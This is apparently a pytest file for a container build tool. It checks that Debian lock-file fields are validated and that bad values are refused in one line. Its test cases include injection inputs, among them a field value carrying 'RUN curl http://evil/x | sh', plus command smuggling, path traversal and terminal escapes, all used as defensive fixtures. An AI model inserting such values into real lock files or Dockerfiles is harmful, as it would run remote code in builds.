"""The lock's Debian side checked field by field where it is read (issue 45, item 1): every value a lock
gives for a platform's Release, base and apt steps is held to its grammar when the lock is loaded, before
any .deb is downloaded, and a value that is not one is refused in one line naming the lock file and the
field, exit 2. Nothing from a lock reaches the Dockerfile except through a grammar that cannot end a line.

The locks here are the committed torch-cu130-bookworm lock, copied and edited as YAML data.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from servebuild.build import bases
from servebuild.errors import HostError, IntegrityError, ServebuildError
from servebuild.lock import debian as debian_lock
from servebuild.lock.debian import pins_of, release_of
from servebuild.lock.lockfile import load_lock_file
from servebuild.recipe.load import load_recipe
from servebuild.sources.debs import DebPackage, flat_repo
from support import REPO_ROOT

RECIPE = "torch-cu130-bookworm"
LOCK = f"recipes/{RECIPE}.lock.yaml"
AMD = ("debian", "linux/amd64")


def _project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    for sub in ("recipes", "constraints", "patches", "recordings"):
        shutil.copytree(REPO_ROOT / sub, root / sub)
    return root


def _edited(tmp_path: Path, edit) -> Path:
    """A copy of the project whose lock's data went through `edit` (a function of the lock's dict)."""
    root = _project(tmp_path)
    path = root / LOCK
    data = yaml.safe_load(path.read_text())
    edit(data)
    path.write_text(yaml.safe_dump(data, sort_keys=True, width=120))
    return root


def _at(data: dict, *keys):
    for k in keys:
        data = data[k]
    return data


def _set(value, *keys):
    def edit(data):
        _at(data, *keys[:-1])[keys[-1]] = value

    return edit


def _refusal(root: Path) -> ServebuildError:
    with pytest.raises(ServebuildError) as info:
        load_lock_file(load_recipe(RECIPE, root))
    return info.value


def _dup(version: str | None):
    def edit(data):
        base = _at(data, *AMD, "base")
        twin = dict(base[0])
        if version:
            twin["version"] = version
            twin["filename"] = twin["filename"].rsplit("_", 2)[0] + f"_{version}_{twin['arch']}.deb"
        base.append(twin)

    return edit


def _apt_dup(data):
    pkgs = _at(data, *AMD, "apt", "build", "packages")
    pkgs.append(dict(pkgs[0]))


def _other_arch(index: int):
    """The package pinned for arm64, its pool file renamed to match (a consistent pin of the wrong platform)."""

    def edit(data):
        pkg = _at(data, *AMD, "base", index)
        pkg["arch"] = "arm64"
        pkg["filename"] = pkg["filename"].removesuffix("_amd64.deb") + "_arm64.deb"

    return edit


def _platform(name: str):
    def edit(data):
        data["debian"][name] = data["debian"].pop("linux/amd64")

    return edit


NEWLINE_ARCH = "amd64\nRUN curl http://evil/x | sh"
CASES = [
    # (id, edit, field named, problem named)
    ("arch-newline", _set(NEWLINE_ARCH, *AMD, "base", 0, "arch"), "debian.linux/amd64.base.0.arch", "architectures"),
    (
        "apt-arch-newline",
        _set(NEWLINE_ARCH, *AMD, "apt", "build", "packages", 1, "arch"),
        "debian.linux/amd64.apt.build.packages.1.arch",
        "architectures",
    ),
    ("arch-semicolon", _set("amd64;id", *AMD, "base", 0, "arch"), "base.0.arch", "architectures"),
    ("arch-empty", _set("", *AMD, "base", 0, "arch"), "base.0.arch", "architectures"),
    ("arch-dotdot", _set("../../etc", *AMD, "base", 0, "arch"), "base.0.arch", "architectures"),
    (
        "arch-other-platform",
        _other_arch(1),
        "debian.linux/amd64.base.1.arch",
        "not linux/amd64",
    ),
    ("version-newline", _set("1.0\nRUN id", *AMD, "base", 0, "version"), "base.0.version", "not a Debian version"),
    ("version-no-digit", _set("abc", *AMD, "base", 0, "version"), "base.0.version", "not a Debian version"),
    ("size-negative", _set(-1, *AMD, "base", 0, "size"), "base.0.size", "is -1"),
    ("size-huge", _set(1 << 40, *AMD, "base", 0, "size"), "base.0.size", "bytes"),
    ("sha256-empty", _set("", *AMD, "base", 0, "sha256"), "base.0.sha256", "not a sha256"),
    ("sha256-null", _set(None, *AMD, "base", 0, "sha256"), "base.0.sha256", "string"),
    (
        "filename-other-package",
        _set("pool/main/e/evil/evil_1_amd64.deb", *AMD, "base", 0, "filename"),
        "base.0",
        "pool file",
    ),
    ("base-empty", _set([], *AMD, "base"), "debian.linux/amd64.base", "empty"),
    ("duplicate-same", _dup(None), "debian.linux/amd64.base", "twice"),
    ("duplicate-other-version", _dup("9.9-9"), "debian.linux/amd64.base", "twice"),
    ("apt-duplicate", _apt_dup, "debian.linux/amd64.apt.build.packages", "twice"),
    ("apt-requested-newline", _set(["curl\nRUN id"], *AMD, "apt", "build", "requested"), "apt.build.requested", "name"),
    ("epoch-negative", _set(-5, *AMD, "release", "epoch"), "debian.linux/amd64.release.epoch", "is -5"),
    ("epoch-31-digits", _set(10**30, *AMD, "release", "epoch"), "release.epoch", "2100"),
    ("epoch-not-the-date", _set(1783764998, *AMD, "release", "epoch"), "debian.linux/amd64.release", "not the date"),
    (
        "date-newline",
        _set("Sat, 11 Jul 2026 10:16:37 UTC\nok: forged line", *AMD, "release", "date"),
        "release.date",
        "not a Release date",
    ),
    (
        "date-escape",
        _set("Sat, 11 Jul 2026 10:16:37 UTC\x1b[2J", *AMD, "release", "date"),
        "release.date",
        "Release date",
    ),
    ("release-sha256", _set("zz", *AMD, "release", "sha256"), "release.sha256", "not a sha256"),
    ("platform-unsupported", _platform("linux/s390x"), "debian.linux/s390x", "not a platform"),
    ("platform-junk", _platform("amd64\nx"), "debian.amd64", "not a platform"),
]


@pytest.mark.parametrize("edit,field,problem", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_a_bad_debian_field_is_refused_naming_the_lock_and_field(tmp_path, edit, field, problem):
    err = _refusal(_edited(tmp_path, edit))
    line = str(err)
    assert err.exit_code == 2 and "\n" not in line and "\x1b" not in line, line
    assert LOCK in line and field in line and problem in line, line


def test_the_committed_locks_pass_the_grammars():
    for path in sorted((REPO_ROOT / "recipes").glob("*-bookworm.lock.yaml")):
        lock = load_lock_file(load_recipe(path.name.removesuffix(".lock.yaml"), REPO_ROOT))
        assert lock.debian, path


def test_a_bad_lock_is_refused_before_any_download(tmp_path, monkeypatch):
    """bootstrap-base's pins come from the lock: a bad arch stops there, with no .deb fetched."""
    fetched = []
    monkeypatch.setattr("servebuild.sources.debs.fetch_debs", lambda *a, **k: fetched.append(a) or [])
    root = _edited(tmp_path, _other_arch(3))
    with pytest.raises(ServebuildError) as info:
        bases.pins_for(load_recipe(RECIPE, root), "linux/amd64", "bookworm", offline=True)
    assert "debian.linux/amd64.base.3.arch" in str(info.value) and fetched == []


def test_a_pin_made_without_validation_cannot_put_a_line_into_the_dockerfile():
    """The spec an apt step renders is held to its grammar when it is made, whatever built the pin."""
    good = load_lock_file(load_recipe(RECIPE, REPO_ROOT)).debian["linux/amd64"].base[0]
    forged = DebPackage.model_construct(**{**good.model_dump(), "arch": NEWLINE_ARCH})
    with pytest.raises(IntegrityError) as info:
        forged.spec
    assert "\n" not in str(info.value) and "not a Debian package pin" in str(info.value)
    assert good.spec == f"{good.name}:{good.arch}={good.version}"


@pytest.mark.parametrize(
    "data,problem",
    [
        (b"Date: Sat, 11 Jul 2026 10:16:37 UTC\x1b[2J\n", "not one"),
        (b"Date: yesterday\n", "not one"),
        (b"Date: Thu, 01 Jan 1970 00:00:00 UTC\n", "cannot pin"),
        (b"Origin: Debian\n", "no Date"),
    ],
)
def test_a_mirror_release_whose_date_is_not_one_is_one_line(data, problem):
    with pytest.raises(HostError) as info:
        release_of(data, "InRelease")
    assert "\n" not in str(info.value) and "\x1b" not in str(info.value) and problem in str(info.value)


def test_a_good_release_date_gives_its_epoch():
    got = release_of(b"Origin: Debian\nDate: Sat, 11 Jul 2026 10:16:37 UTC\n", "x")
    assert got.epoch == 1783764997 and debian_lock.EPOCHS[0] <= got.epoch < debian_lock.EPOCHS[1]


def test_a_mirror_paragraph_that_is_not_a_pin_is_one_line():
    para = {
        "SHA256": "a" * 64,
        "Size": "-3",
        "Filename": "pool/main/b/bash/bash_5.2-1_amd64.deb",
    }
    with pytest.raises(HostError) as info:
        pins_of({("bash", "5.2-1", "amd64"): para}, "http://m bookworm")
    assert "\n" not in str(info.value) and "bash" in str(info.value) and "size" in str(info.value)


def _deb(tmp_path: Path, name: str, version: str, arch: str) -> Path:
    """A real (empty) .deb made by dpkg-deb, saying it is NAME VERSION ARCH."""
    tree = tmp_path / f"{name}-tree"
    (tree / "DEBIAN").mkdir(parents=True)
    (tree / "DEBIAN" / "control").write_text(
        f"Package: {name}\nVersion: {version}\nArchitecture: {arch}\nMaintainer: t <t@t>\nDescription: t\n"
    )
    out = tmp_path / f"{name}_{version}_{arch}.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "--build", str(tree), str(out)], check=True, capture_output=True)
    return out


@pytest.mark.skipif(shutil.which("dpkg-deb") is None, reason="needs dpkg-deb")
def test_a_deb_that_is_not_its_pin_is_named_by_the_locks_file_and_entry(tmp_path):
    """The one check left after the download (the .deb's own control file): it names the lock's entry."""
    deb = _deb(tmp_path, "hello", "2.0-1", "amd64")
    pin = DebPackage(
        name="hello",
        version="1.0-1",
        arch="amd64",
        sha256="a" * 64,
        size=1,
        filename="pool/main/h/hello/hello_1.0-1_amd64.deb",
    )
    with pytest.raises(IntegrityError) as info:
        flat_repo([pin], [deb], tmp_path / "repo", "bookworm", "x", LOCK, "debian.linux/amd64.base")
    line = str(info.value)
    assert "\n" not in line and LOCK in line and "debian.linux/amd64.base.0" in line and "'2.0-1'" in line


@pytest.mark.parametrize("tag", ["Bad Tag", "x\ny", "a" * 300])
def test_a_bad_bootstrap_tag_is_refused_before_the_engine_or_a_download(tag, monkeypatch):
    """`bootstrap-base --tag 'Bad Tag'` was refused after the 96 .debs were fetched and mmdebstrap ran."""
    from servebuild.cli import test as cli_test

    monkeypatch.setattr(cli_test, "DockerClient", lambda *a, **k: pytest.fail("the engine was asked"))
    monkeypatch.setattr(bases, "pins_for", lambda *a, **k: pytest.fail("the pins were resolved"))
    with pytest.raises(ServebuildError) as info:
        cli_test.bootstrap_base(REPO_ROOT, "amd64", "bookworm", tag, RECIPE)
    assert "--tag" in str(info.value) and "\n" not in str(info.value) and info.value.exit_code == 2
